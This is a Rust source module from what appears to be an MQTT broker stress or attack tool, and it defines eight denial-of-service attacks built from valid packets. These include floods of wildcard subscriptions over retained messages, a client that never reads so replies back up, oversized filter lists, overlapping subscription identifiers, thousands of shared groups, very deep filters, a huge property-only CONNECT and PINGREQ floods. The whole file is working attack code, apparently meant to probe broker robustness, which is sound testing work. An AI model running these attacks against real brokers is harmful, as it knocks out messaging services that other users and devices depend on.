//! What a client sends to hold up others: packets of the greatest effect, all of them valid.

use super::Target;
use crate::args::Args;
use crate::engine::{Engine, Role};
use crate::error::{Error, Result};
use crate::mqtt;

/// Bytes of the largest packets, which brokers take without being told to.
const LARGE: usize = 16_000_000;
/// Filters of one SUBSCRIBE, where many packets do as well as one.
const CHUNK: usize = 1000;

/// One client that attacks.
pub(super) struct Attack {
    at: usize,
    /// What it sends once it is connected, or instead of a CONNECT.
    bytes: Vec<u8>,
    /// Whether it reads what the broker sends.
    reads: bool,
}

/// The names of all attacks.
pub(super) const KINDS: &str =
    "walks, waiting, filters, overlap, groups, deep, properties or pings";

/// Connects the client of an attack and stores what it needs; `None` for an unknown one.
pub(super) fn prepare(
    kind: &str,
    args: &Args,
    target: &Target,
    e: &mut Engine,
) -> Result<Option<Attack>> {
    let version = target.version;
    let numbers = |count: usize, filter: &dyn Fn(usize) -> String| {
        let filters: Vec<String> = (0..count).map(filter).collect();
        subscribes(version, &filters)
    };

    let (mut bytes, mut reads) = (Vec::new(), true);
    match kind {
        // Every filter finds one of very many retained messages, behind a wildcard.
        "walks" => {
            let count = args.count("count", 20_000)?;
            retain(target, e, count)?;
            bytes = numbers(count, &|n| format!("+/{n}"));
        }
        // Very many answers with retained messages wait for a client that does not read.
        "waiting" => {
            let once = numbers(args.count("count", 50_000)?, &|n| format!("w/{n}"));
            bytes = once.repeat(2);
            reads = false;
        }
        // As many filters in one packet as it can hold.
        "filters" => {
            let filters: Vec<String> = (0..LARGE / 9).map(|n| format!("{n:06}")).collect();
            bytes = mqtt::subscribe(version, 1, &filters, 0);
        }
        // Very many filters with identifiers that match one topic, and messages on that topic.
        "overlap" => {
            if version != 5 {
                return Err(Error::new("--kind overlap needs --ver 5"));
            }
            let topic: Vec<String> = (0..16).map(|n| n.to_string()).collect();
            let level = |bits: usize, at: usize| match bits >> at & 1 {
                1 => "+",
                _ => &topic[at],
            };

            let pattern = |bits| (0..16).map(|at| level(bits, at)).collect::<Vec<_>>();
            let count = args.count("count", 1 << 16)?;
            let filters: Vec<String> = (0..count).map(|bits| pattern(bits).join("/")).collect();
            for (id, chunk) in (1..).zip(filters.chunks(CHUNK)) {
                bytes.extend(mqtt::subscribe_with_id(id, chunk));
            }
            let head = mqtt::publish_head(version, &topic.join("/"), 0, false, 1);
            for _ in 0..1000 {
                bytes.extend_from_slice(&head.bytes);
                bytes.push(b'x');
            }
            reads = false;
        }
        // Every message is one for each of very many groups.
        "groups" => {
            bytes = numbers(args.count("count", 100_000)?, &|n| format!("$share/n{n}/#"));
            reads = false;
        }
        // Filters of very many levels.
        "deep" => {
            let levels = "/+".repeat(120);
            bytes = numbers(args.count("count", 100_000)?, &|n| format!("d/{n}{levels}"));
        }
        // A CONNECT that is nothing but user properties.
        "properties" => bytes = mqtt::connect_of_properties(LARGE / 5),
        "pings" => bytes = mqtt::PINGREQ.repeat(LARGE / 2),
        _ => return Ok(None),
    }

    let at = if kind == "properties" {
        let at = e.add_conn(Role::Idle, e.conns.len(), std::mem::take(&mut bytes));
        e.conns[at].may_close = true;
        at
    } else {
        target.connect(e, Role::Idle, 1, "attack-")?.start
    };

    e.conns[at].may_close = true;
    Ok(Some(Attack { at, bytes, reads }))
}

impl Attack {
    pub(super) fn start(&self, e: &mut Engine) {
        if self.bytes.is_empty() {
            return e.dial(self.at);
        }
        e.set_reading(self.at, self.reads);
        e.queue(self.at, &self.bytes);
        e.flush(self.at);
    }

    /// Whether the broker has ended the connection.
    pub(super) fn refused(&self, e: &Engine) -> bool {
        !e.conns[self.at].is_open()
    }
}

/// Filters in packets of many.
fn subscribes(version: u8, filters: &[String]) -> Vec<u8> {
    let packets = (1..).zip(filters.chunks(CHUNK));
    packets
        .flat_map(|(id, chunk)| mqtt::subscribe(version, id, chunk, 0))
        .collect()
}

/// Stores retained messages, each with another first level.
fn retain(target: &Target, e: &mut Engine, count: usize) -> Result<()> {
    let at = target.connect(e, Role::Idle, 1, "p-attack-")?.start;
    for n in 0..count {
        let head = mqtt::publish_head(target.version, &format!("r{n}/{n}"), 0, true, 1);
        e.queue(at, &head.bytes);
        e.queue(at, b"x");
    }
    e.flush(at);
    e.until(60.0, |e| e.conns[at].is_drained());
    e.rest(0.5);
    Ok(())
}
